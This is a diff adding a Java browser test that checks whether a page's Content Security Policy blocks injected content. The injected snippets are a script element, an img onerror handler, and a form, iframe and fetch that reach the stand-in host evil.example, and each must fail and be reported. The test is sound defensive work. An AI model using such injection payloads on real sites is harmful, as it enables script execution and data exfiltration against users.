@@ -146,6 +146,24 @@ class FrameIT {
     }
 
     @Test
+    void whatIsBroughtIntoAPageNeitherRunsNorLeavesItAndIsTold() {
+        for (var brought : List.of(
+                "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
+                "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">lu</p>')",
+                "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.ran = true\">')",
+                "document.body.insertAdjacentHTML('beforeend', '<form id=leak method=post action=\"http://evil.example/\">');"
+                        + " document.getElementById('leak').submit()",
+                "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://evil.example/\"></iframe>')",
+                "fetch('http://evil.example/').catch(() => {})")) {
+            chrome.open("/aide").assertNoTrouble();
+            chrome.script(brought);
+            assertEquals(true, chrome.script("return window.ran === undefined"), brought);
+            assertTrue(chrome.trouble().stream().anyMatch(each -> each.contains("Content Security Policy")), brought);
+            assertEquals("/aide", chrome.path(), brought);
+        }
+    }
+
+    @Test
     void softwareIsAnsweredAsBefore() {
         var answer = Partner.of("demo-admin").get("/nulle-part");
 
